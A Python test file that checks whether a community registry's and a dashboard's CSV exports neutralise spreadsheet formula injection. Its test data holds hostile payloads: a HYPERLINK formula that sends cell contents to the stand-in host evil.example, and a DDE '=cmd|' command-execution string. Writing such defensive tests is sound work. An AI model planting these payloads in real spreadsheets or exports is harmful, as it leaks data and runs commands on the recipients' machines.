"""CSV exports (the registry's and the dashboard's) carry no live spreadsheet formula."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from sqlalchemy import Connection

from tests.factories import JINYUAN, household, login, make_grid, make_user, report_case, resident
from tests.integration.test_pages import sign_in

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def rows_of(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_registry_export_quotes_formulas(conn: Connection, client: TestClient) -> None:
    grid = make_grid(conn)
    staff = login(conn, client, role="community_staff", area=JINYUAN, username="exporter")
    home = household(client, staff, grid=grid, address="@SUM(1+1)")
    resident(client, staff, home["id"], name=EVIL, phone="+8613800000001")
    answer = client.get(f"/api/v1/residents/export.csv?area={grid}&purpose=registry", headers=staff)
    assert answer.status_code == 200, answer.text
    header, row = rows_of(answer.content)
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == "'" + EVIL
    assert cells["address"] == "'@SUM(1+1)"
    assert not any(c.startswith(("=", "+", "-", "@")) for c in row)


def test_the_dashboard_export_quotes_formulas(conn: Connection, client: TestClient) -> None:
    grid = make_grid(conn, name="=cmd|' /C calc'!A0")
    make_user(conn, username="exporthead", role="district_admin", area="520115")
    report_case(client, area_code=grid)
    sign_in(client, "exporthead")
    answer = client.get(f"/dashboard/{JINYUAN}/export.csv?days=7")
    assert answer.status_code == 200, answer.text
    child = next(r for r in rows_of(answer.content) if r[0] == grid)
    assert child[1] == "'=cmd|' /C calc'!A0"
    assert child[4] == "1"  # numbers stay numbers
